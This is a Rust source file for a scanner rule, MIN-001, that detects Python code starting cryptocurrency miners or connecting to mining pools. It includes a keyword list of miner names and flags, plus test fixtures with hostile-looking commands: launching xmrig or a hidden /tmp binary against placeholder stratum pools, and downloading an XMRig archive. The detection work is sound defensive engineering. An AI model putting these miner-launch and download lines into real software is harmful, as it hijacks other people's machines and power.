//! `MIN-001`: a miner of coins is started or its pool is called.

use portcullis_core::inspection::{Confidence, Observation, Severity};

use super::evidence::{commands, is_harmful, texts};
use super::{Rule, even_if_asked, observe_call};
use crate::python::{Analysis, Call, Module};

/// The rule.
pub(super) struct Miner;

impl Rule for Miner {
    fn id(&self) -> &'static str {
        "MIN-001"
    }

    fn severity(&self) -> Severity {
        Severity::High
    }

    fn title(&self) -> &'static str {
        "it mines coins"
    }

    fn manual(&self) -> &'static str {
        "The name or the options of a known miner stand in a command, or an address of a mining \
         pool is given to something that connects.\n\n\
         Mining on somebody else's machine is theft of power, and whoever can place a miner can \
         place anything.\n\n\
         Mistaken for it: libraries about block chains name pools in documentation; only what \
         is started or connected to is looked at."
    }

    fn check(&self, analysis: &Analysis, observations: &mut Vec<Observation>) {
        for module in &analysis.modules {
            for call in module.calls.iter().filter(|call| mines(module, call)) {
                let severity = even_if_asked(Severity::High, call.context);
                let confidence = Confidence::of(90).in_context(call.context);
                let message = format!("{} starts a miner or calls its pool", call.target);
                observations.push(observe_call(self, call, (severity, confidence), message));
            }
        }
    }
}

/// What only the command line or the download of a miner says.
const MINERS: &[&str] = &[
    "xmrig",
    "minerd -",
    "cpuminer",
    "ethminer",
    "nbminer",
    "t-rex -a",
    "lolminer",
    "phoenixminer",
    "nanominer",
    "--donate-level",
    "--coin monero",
    "--algo rx/0",
    "-a rx/0",
    "--randomx",
    "stratum+tcp://",
    "stratum+ssl://",
    "stratum2+tcp://",
];

fn mines(module: &Module, call: &Call) -> bool {
    if !is_harmful(call) {
        return false;
    }
    let says = |text: &str| MINERS.iter().any(|part| text.contains(part));
    let starts = commands(call).iter().any(|line| says(line));
    let names = texts(call)
        .iter()
        .any(|text| says(&text.to_ascii_lowercase()));
    starts
        || names
        || (call.target.contains("connect")
            && module
                .literals
                .iter()
                .any(|each| each.text.starts_with("stratum") || each.text.starts_with("mining.")))
}

#[cfg(test)]
mod tests {
    use super::super::testing::{found, quiet};

    #[test]
    fn miners_are_seen() {
        for (path, code) in [
            (
                "demo/__init__.py",
                "import subprocess\nsubprocess.Popen(['./xmrig', '-o', 'pool.invalid:3333', '-u', 'wallet'])",
            ),
            (
                "demo/__init__.py",
                "import os\nos.system('/tmp/.x -o stratum+tcp://pool.invalid:4444 -u w --donate-level 1')",
            ),
            (
                "demo/__init__.py",
                "import urllib.request as u\nu.urlretrieve('https://get.invalid/XMRig-6.tar.gz', '/tmp/x')",
            ),
            (
                "demo/__init__.py",
                "import socket, json\nURL = 'stratum+tcp://pool.invalid:3333'\ns = socket.socket()\nh, p = URL.split('//')[1].split(':')\ns.connect((h, int(p)))",
            ),
        ] {
            found("MIN-001", path, code);
        }
    }

    #[test]
    fn words_about_miners_are_not() {
        for (path, code) in [
            (
                "demo/__init__.py",
                "'''xmrig and stratum+tcp://pool.invalid'''\nimport os\nos.system('ls')",
            ),
            ("demo/__init__.py", "KNOWN = ['xmrig', 'stratum+tcp://']"),
            (
                "demo/__init__.py",
                "import requests\nrequests.get('https://api.invalid/blocks')",
            ),
        ] {
            quiet("MIN-001", path, code);
        }
    }
}
